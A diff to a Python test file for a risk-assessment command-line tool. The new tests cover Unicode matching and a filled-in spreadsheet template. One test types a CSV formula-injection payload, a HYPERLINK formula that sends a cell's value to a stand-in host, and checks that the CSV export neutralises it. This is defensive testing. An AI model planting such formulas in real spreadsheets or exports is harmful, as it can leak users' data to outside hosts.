@@ -585,7 +585,8 @@ def test_panel_text_is_compared_after_nfc_and_without_zero_width_characters(tmp_
     assert set(summary.challenges["n"]) == {2}
     notes = " ".join(summary.notes)
     assert "assessor names 'Ann' and 'Ann\\u200b' read as one" in notes
-    assert "challenges 'Caf\\xe9 supply' and 'Cafe\\u0301 supply' read as one" in notes
+    assert "challenges 'Caf\\xe9 supply' and 'Cafe\\u0301 supply' read as one ('Café supply')" in notes
+    assert "\x1f" not in notes  # the challenge as shown, not the internal matching key
 
 
 def test_an_empty_assessor_cell_is_refused_with_its_place(tmp_path):
@@ -668,3 +669,43 @@ def test_a_look_alike_id_option_names_its_foreign_letter(tmp_path):
     proc = _cli("assess", EXAMPLE, "--id", "qu\u0430ntum", "--label", "Q", "--out", tmp_path / "o")
     assert proc.returncode == 2
     assert "--id 'qu\\u0430ntum', which holds non-ASCII U+0430 CYRILLIC SMALL LETTER A is not allowed" in proc.stderr
+
+
+@pytest.mark.slow
+def test_a_template_filled_in_a_spreadsheet_and_its_csv_read_as_a_spreadsheet_reads_it(tmp_path):
+    """As a user works: `assess --template form.xlsx`, fill it (here with openpyxl, as a spreadsheet
+    saves it: the example row deleted, rows typed in, one text cell starting with '='), run `assess`
+    on it, then open the risk table's CSV as a spreadsheet reads CSV (csv module, newline='')."""
+    import openpyxl
+
+    form, out = tmp_path / "form.xlsx", tmp_path / "out"
+    proc = _cli("assess", "--template", form)
+    assert proc.returncode == 0, proc.stderr
+    wb = openpyxl.load_workbook(form)
+    ws = wb.active
+    header = [c.value for c in ws[1]]
+    assert header[:3] == ["dimension_id", "challenge", "importance"]
+    assert str(ws.cell(2, 5).value).startswith("EXAMPLE")
+    ws.delete_rows(2)  # the example row, as the template's note asks
+    typed = {"supply_chain": ("Single supplier of wafers", 3),
+             "national_security": ('=HYPERLINK("http://example.org/?leak="&A1,"x")', 4)}
+    for row in ws.iter_rows(min_row=2):
+        dim = row[0].value
+        if dim in typed:
+            row[1].value, row[2].value = typed[dim]
+            row[1].data_type = "s"  # text typed into the cell, not a formula (Excel: a leading ')
+    wb.save(form)
+    proc = _cli("assess", form, "--id", "filled", "--label", "Filled in a spreadsheet", "--out", out,
+                "--formats", "png", "--dpi", "50", timeout=300)
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    assert "form.xlsx" in proc.stdout + proc.stderr
+    with open(out / "tab-assessment-filled-risks.csv", encoding="utf-8", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert len({len(r) for r in rows}) == 1  # one width: no cell broke a row
+    cells = {r[1]: r[2] for r in rows[1:]}
+    assert cells["Single supplier of wafers"] == "3"
+    formula = '=HYPERLINK("http://example.org/?leak="&A1,"x")'
+    assert cells["'" + formula] == "4"  # neutralised for the spreadsheet that opens it
+    import html
+    page = html.unescape((out / "tab-assessment-filled-risks.html").read_text(encoding="utf-8"))
+    assert formula in page and "'" + formula not in page  # the raw value where no spreadsheet reads it
